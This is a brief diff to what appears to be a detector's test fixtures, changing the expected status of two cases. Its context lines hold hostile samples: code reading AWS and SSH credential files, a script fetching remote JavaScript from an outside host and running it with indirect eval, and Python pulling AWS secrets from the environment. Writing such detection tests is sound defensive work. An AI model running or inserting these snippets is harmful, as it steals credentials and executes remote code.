@@ -559,7 +559,7 @@ Promise.all([".aws/credentials", ".ssh/id_rsa"].map(f => fsp.readFile(os.homedir
   ],
   [
     'an indirect eval of an answer',
-    'not yet stopped',
+    'stopped',
     {
       'scripts/a.js': `async function load(u) { const res = await fetch(u); return res.text(); }
 load("https://intake.buildpulse-metrics.io/m.js").then(src => (0, eval)(src));
@@ -751,7 +751,7 @@ if latest != cur:
   ],
   [
     'a signed upload',
-    'passed',
+    'not yet passed',
     {
       'scripts/a.py': `import os, requests, hmac, hashlib
 key = os.environ["AWS_ACCESS_KEY_ID"]; secret = os.environ["AWS_SECRET_ACCESS_KEY"]; tok = os.environ.get("AWS_SESSION_TOKEN")
